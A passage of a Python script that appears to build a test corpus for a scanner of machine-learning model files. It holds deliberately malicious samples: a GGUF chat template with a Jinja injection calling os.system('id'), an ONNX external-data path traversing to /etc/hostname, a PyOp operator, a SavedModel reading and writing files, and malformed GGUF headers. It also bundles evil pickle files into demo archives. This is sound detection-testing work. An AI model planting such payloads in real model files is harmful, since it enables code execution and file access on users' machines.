        g = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], initializer=list(inits))
        m = helper.make_model(g, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets], functions=list(funcs))
        return m.SerializeToString()
    write("benign_model.onnx", model([helper.make_node("Relu", ["x"], ["y"])]), "clean", "onnx", "an ONNX model of one Relu")
    write("risky_onnx_custom_op.onnx", model([helper.make_node("Scramble", ["x"], ["y"], domain="com.example.ops")], opsets=(("", 13), ("com.example.ops", 1))),
          "finding", "onnx_structure", "a node from a custom operator domain", rule="onnx_custom_operator")
    write("evil_onnx_pyop.onnx", model([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], opsets=(("", 13), ("ai.onnx.contrib", 1))),
          "dangerous", "onnx_structure", "a Python operator (onnxruntime-extensions PyOp)", rule="onnx_custom_operator")
    t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    t.ClearField("float_data"); t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add(); e.key = "location"; e.value = "../../../../../../etc/hostname"
    write("evil_onnx_external_path.onnx", model([helper.make_node("Add", ["x", "w"], ["y"])], inits=[t]), "dangerous", "onnx_external", "external data read from outside the model directory (ONNX Runtime before 1.16 follows it)", rule="onnx_external_data_path")
    f = helper.make_function("local.fn", "Twice", ["a"], ["b"], [helper.make_node("Add", ["a", "a"], ["b"])], [helper.make_opsetid("", 13)])
    write("benign_onnx_local_function.onnx", model([helper.make_node("Twice", ["x"], ["y"], domain="local.fn")], opsets=(("", 13), ("local.fn", 1)), funcs=[f]),
          "clean", "onnx", "a node calling a function the model defines itself")

def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])

def pb_field(num, payload):
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload

def saved_model(ops, fn_ops=()):
    nodes = b"".join(pb_field(1, pb_field(1, f"n{i}".encode()) + pb_field(2, op.encode())) for i, op in enumerate(ops))
    fdefs = b"".join(pb_field(3, pb_field(1, b"f") + pb_field(2, op.encode())) for op in fn_ops)
    library = pb_field(2, pb_field(1, fdefs)) if fn_ops else b""
    graph = nodes + library
    return pb_varint(1 << 3) + pb_varint(1) + pb_field(2, pb_field(2, graph))

def tf_files():
    os.makedirs(os.path.join(OUT, "benign_saved_model"), exist_ok=True)
    os.makedirs(os.path.join(OUT, "evil_saved_model"), exist_ok=True)
    write("benign_saved_model/saved_model.pb", saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2", "StringJoin"]), "clean", "tf_structure", "a SavedModel graph of ordinary ops")
    write("evil_saved_model/saved_model.pb", saved_model(["Placeholder", "Identity"], fn_ops=["ReadFile", "WriteFile"]), "dangerous", "tf_structure",
          "a SavedModel whose graph function reads and writes files", rule="tensorflow_unsafe_op")

def gguf_files():
    chatml = "{% for m in messages %}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
    evil = "{{ cycler.__init__.__globals__.os.system('id') }}" + chatml
    f32 = struct.pack("<4f", 1, 2, 3, 4)
    q8 = b"\0" * 34
    kvs = [("general.architecture", 8, "llama"), ("general.alignment", 4, 32), ("tokenizer.ggml.tokens", 9, (8, ["<s>", "</s>", "a"]))]
    write("benign_chat.gguf", gguf_file(kvs + [("tokenizer.chat_template", 8, chatml)], [("w", [4], 0, f32), ("q", [32], 8, q8)]), "clean", "gguf", "a GGUF with a ChatML template and two tensors")
    write("evil_gguf_template.gguf", gguf_file(kvs + [("tokenizer.chat_template", 8, evil)], [("w", [4], 0, f32)]), "dangerous", "gguf_template",
          "a chat template that walks to os.system", rule="gguf_chat_template")
    good = gguf_file(kvs, [("w", [4], 0, f32)])
    write("bad_gguf_string_len.gguf", good[:24] + struct.pack("<Q", 1 << 40) + good[32:], "finding", "gguf_fails", "a key length past the end of the file", rule="gguf_invalid")
    arr = gguf_file([("tokenizer.ggml.tokens", 9, (8, ["a"]))], [])
    i = arr.index(struct.pack("<IQ", 8, 1))
    write("bad_gguf_array_count.gguf", arr[:i] + struct.pack("<IQ", 8, 1 << 50) + arr[i + 12:], "finding", "gguf_fails", "an array count past the end of the file", rule="gguf_invalid")
    write("bad_gguf_tensor_offset.gguf", gguf_file(kvs, [("w", [4096], 0, f32)]), "finding", "gguf_fails", "tensor data past the end of the file", rule="gguf_invalid")

# --- the demo estate's objects (served by the simulator) ---------------------------------------

OBJECTS = os.path.join(os.path.dirname(__file__), "..", "internal", "estate", "objects")

def demo_objects():
    os.makedirs(OBJECTS, exist_ok=True)
    def tgz(members):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as t:
            for member, data in members:
                info = tarfile.TarInfo(member); info.size = len(data); t.addfile(info, io.BytesIO(data))
        return buf.getvalue()
    c = lambda name: open(os.path.join(OUT, name), "rb").read()
    files = {
        "benign_model.tar.gz": tgz([("model.pth", c("benign_torch.pt")), ("code/inference.py", b"def model_fn(d):\n    return None\n")]),
        "evil_model.tar.gz": tgz([("model.joblib", c("evil_os_system_p4.pkl")), ("code/inference.py", b"")]),
        "benign_llm.tar.gz": tgz([("model.safetensors", c("benign.safetensors")), ("config.json", b"{}")]),
        "benign_torch.pt": c("benign_torch.pt"), "evil_torch.pt": c("evil_torch.pt"),
        "benign.safetensors": c("benign.safetensors"), "evil_lambda.keras": c("evil_lambda.keras"),
        "benign_state_dict.pkl": c("benign_state_dict_p4.pkl"), "evil_getattr.pkl": c("evil_getattr_p2.pkl"),
        "config.json": b'{"architectures": ["LlamaForCausalLM"]}',
    }
    for name, data in files.items():
        with open(os.path.join(OBJECTS, name), "wb") as f:
            f.write(data)
    print("wrote", len(files), "demo objects to", os.path.normpath(OBJECTS))

def main():
    import shutil
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    base_corpus(stand_in_torch())
    stacked(); real_torch(); members(); numpy_headers(); decoding(); dotted(); severity(); polyglots()
    keras_h5(); joblib_files(); onnx_files(); tf_files(); gguf_files()
    with open(os.path.join(OUT, "MANIFEST.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
    print("wrote", len(MANIFEST), "files to", os.path.normpath(OUT))
    if "--demo-objects" in sys.argv:
        demo_objects()

if __name__ == "__main__":
    main()
